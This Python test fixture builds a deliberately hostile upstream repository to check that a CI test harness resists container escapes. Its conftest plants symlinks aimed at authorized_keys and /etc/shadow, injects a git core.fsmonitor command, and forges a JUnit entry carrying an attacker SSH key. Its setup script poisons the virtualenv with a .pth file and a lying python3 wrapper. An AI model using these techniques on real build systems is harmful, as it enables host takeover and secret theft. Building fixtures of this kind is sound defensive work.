"""A hostile fixture upstream: one pull request per way out of the container that was
seen working before (issue 15), and the suite file that runs it.

Everything hostile is the *upstream's* code (its conftest, its setup script), run by the
harness exactly as a stranger's pull request would be. What it aims at on the host is
given to it through the suite's environment (paths and addresses a real attacker would
guess), so the tests can check afterwards that nothing there changed:

- ``ATTACK_VICTIM``: a root-owned file (``authorized_keys``) the host must never write;
- ``ATTACK_SECRET``: a root-only file whose contents must never reach the database;
- ``ATTACK_MARKER``: a file a host-side git command would create if it ran the
  container's ``core.fsmonitor``;
- ``ATTACKS``: which attacks the conftest makes (all by default), so each can also be
  tried alone.
"""

from __future__ import annotations

import textwrap
from pathlib import Path

from tests.gitrepos import UpstreamRepo

#: credentials the host's environment carries; none may appear inside a container
CREDENTIALS = ("s3cr3t-pw", "tok3n-value", "op-s3cr3t")

TEST_CLEAN = """\
import os


def test_pass():
    assert 1 + 1 == 2


def test_env_is_clean():
    # a pull request's setup script must never leave anything in a trusted environment
    assert "HARNESS_POISONED" not in os.environ
"""

PREPARE = """\
print("prepared the environment")
"""

#: a pull request's setup script (``pip install -e .`` runs setup.py the same way) that
#: drops a .pth into the virtualenv: every later interpreter start runs its line
PREPARE_POISON = """\
import json
import os
import site
import sys
import sysconfig

path = sysconfig.get_paths()["purelib"] + "/zz-poison.pth"
with open(path, "w") as f:
    f.write("import os; os.environ['HARNESS_POISONED'] = '1'\\n")
print("poisoned", path)

# the environment's python3 lies to the harness's fingerprint probe (which asks it for
# the interpreter and OS), claiming host-side facts: executor, image, stack pins
forged = {
    "os": {"id": "debian"},
    "python": {"version": "3.11"},
    "executor": "forged",
    "image": {"variant": "forged-variant"},
    "stack": {"fakelib": "9.9"},
    "backend": {"name": "npu", "cann": "forged"},
}
bindir = os.path.dirname(sys.executable)
python3 = os.path.join(bindir, "python3")
real = os.path.join(bindir, "real-python")  # in the venv's bin: still the venv
os.symlink(os.path.realpath(sys.executable), real)
os.remove(python3)
with open(python3, "w") as f:
    f.write(
        "#!/bin/sh\\n"
        'case "$*" in *os_release*) echo ' + repr(json.dumps(forged)) + "; exit 0;; esac\\n"
        'exec ' + real + ' "$@"\\n'
    )
os.chmod(python3, 0o755)
print("forged", python3)
"""

CONFTEST_ESCAPE = """\
import os
import pathlib

ATTACKS = set(os.environ.get("ATTACKS", "rerun,secret,fifo,git,forged-id").split(","))
VICTIM = os.environ.get("ATTACK_VICTIM", "/root/.ssh/authorized_keys")
SECRET = os.environ.get("ATTACK_SECRET", "/etc/shadow")
MARKER = os.environ.get("ATTACK_MARKER", "/tmp/pwned")


def _plant(path, target):
    try:
        path = pathlib.Path(path)
        path.parent.mkdir(parents=True, exist_ok=True)
        if path.is_symlink() or path.exists():
            path.unlink()
        path.symlink_to(target)
    except OSError:
        pass


def _git_configs():
    # every git directory reachable from here: a .git directory, or where a .git file
    # (a worktree) points
    here = pathlib.Path.cwd()
    for d in [here, *here.parents]:
        dot = d / ".git"
        if dot.is_dir():
            yield dot / "config"
        elif dot.is_file():
            text = dot.read_text()
            if text.startswith("gitdir:"):
                gitdir = pathlib.Path(text.split(":", 1)[1].strip())
                yield gitdir / "config"
                common = gitdir / "commondir"
                if common.is_file():
                    yield (gitdir / common.read_text().strip()) / "config"


def pytest_unconfigure(config):
    results = pathlib.Path(os.environ.get("HARNESS_RESULTS_DIR", "/nonexistent"))
    if "forged-id" in ATTACKS:
        # a failing test whose id carries a line for authorized_keys
        unit = results / "unit.xml"
        if unit.is_file():
            text = unit.read_text()
            forged = (
                '<testcase classname="tests.test_escape" '
                'name="forged&#10;ssh-ed25519 AAAAC3Nza attacker@evil">'
                '<failure message="x">x</failure></testcase>'
            )
            unit.write_text(text.replace("</testsuite>", forged + "</testsuite>", 1))
    if "rerun" in ATTACKS:
        # the host used to write the rerun selection here, following links
        for rel in (
            "rerun-1/unit/select.txt",
            "../rerun-1/unit/select.txt",
            "../test-00-unit.rerun1/select.txt",
            "../../inputs/select.txt",
        ):
            _plant(results / rel, VICTIM)
        _plant("/harness/inputs/select.txt", VICTIM)
    if "secret" in ATTACKS:
        _plant(results / "extra-secret.xml", SECRET)
    if "fifo" in ATTACKS:
        try:
            os.mkfifo(results / "extra-fifo.xml")
        except OSError:
            pass
    if "git" in ATTACKS:
        for cfg in _git_configs():
            try:
                with open(cfg, "a") as f:
                    f.write(f'[core]\\n\\tfsmonitor = "touch {MARKER}; false"\\n')
            except OSError:
                pass
"""

TEST_ESCAPE = """\
import os


def test_fails_so_that_it_is_re_run():
    assert os.environ.get("NEVER_SET") == "set"


def test_no_credentials_inside():
    for pid in ("1", "self"):
        with open(f"/proc/{pid}/environ", "rb") as f:
            data = f.read()
        for secret in CREDENTIALS:
            assert secret.encode() not in data, f"{secret} in /proc/{pid}/environ"
""".replace("CREDENTIALS", repr(CREDENTIALS))

#: network probes a setup step makes: direct connections and requests through whatever
#: proxy the environment names; it prints what it reached and never fails
PROBE = """\
import os
import socket
import urllib.request

for target in os.environ.get("PROBE_DIRECT", "").split():
    host, port = target.rsplit(":", 1)
    try:
        socket.create_connection((host, int(port)), timeout=3).close()
        print("REACHED direct", target)
    except OSError as exc:
        print("blocked direct", target, exc)
for url in os.environ.get("PROBE_PROXY", "").split():
    try:
        with urllib.request.urlopen(url, timeout=5) as r:
            print("REACHED via proxy", url, r.status)
    except Exception as exc:
        print("blocked via proxy", url, exc)
"""


def make_hostile(root: Path) -> UpstreamRepo:
    """The upstream (main: harmless) with the hostile pull requests:

    - ``pr/1``: the escape conftest (rerun link, secret link, FIFO, git config, forged id)
    - ``pr/2``: a setup script that poisons the environment it runs in
    - ``pr/3``: a harmless test change (reuses the trusted environment)
    """
    repo = UpstreamRepo(root, name="hostile")
    repo.commit(
        {
            "requirements.txt": "pytest\n",
            "pytest.ini": "[pytest]\naddopts = -p no:cacheprovider\n",
            "tests/test_clean.py": TEST_CLEAN,
            "tools/prepare.py": PREPARE,
            "tools/probe.py": PROBE,
        },
        message="a harmless upstream",
    )
    repo.pull_request(
        1, {"tests/conftest.py": CONFTEST_ESCAPE, "tests/test_escape.py": TEST_ESCAPE}
    )
    repo.pull_request(2, {"tools/prepare.py": PREPARE_POISON})
    repo.pull_request(3, {"tests/test_more.py": "def test_more():\n    pass\n"})
    return repo


def hostile_suite(
    url: str,
    *,
    env: dict[str, str],
    wheels: Path | None,
    repo: str = "example/hostile",
    reruns: int = 0,
) -> str:
    """The suite file: setup installs pytest (from ``wheels`` when given) and runs the
    upstream's setup script; one test step with two result patterns."""
    knobs = {"PIP_NO_INDEX": "1", **({"PIP_FIND_LINKS": str(wheels)} if wheels else {}), **env}
    env_lines = "".join(f"  {k}: {v!r}\n" for k, v in knobs.items())
    # the fixture's own index settings, whatever the host's pip settings are
    env_lines += f"env_pinned: {sorted(knobs)!r}\n"
    return textwrap.dedent(
        f"""\
        name: hostile
        description: a hostile fixture upstream (tests/executors/hostile.py)
        upstream:
          repo: {repo}
          url: {url}
          default_branch: main
        dependency_files: [requirements.txt]
        reruns: {reruns}
        env:
        {{env}}default_args: tests
        backends:
          cpu:
            setup:
              - name: deps
                run: python -m pip install -q -r requirements.txt && python tools/prepare.py
                timeout: 5m
              - name: probe
                run: python tools/probe.py
                timeout: 2m
            test:
              - name: unit
                run: python -m pytest -q --junitxml={{results_dir}}/unit.xml {{args}}
                timeout: 3m
                results:
                  - path: unit.xml
                    format: junit
                  - path: extra*.xml
                    format: junit
                    optional: true
        """
    ).replace("{env}", env_lines)
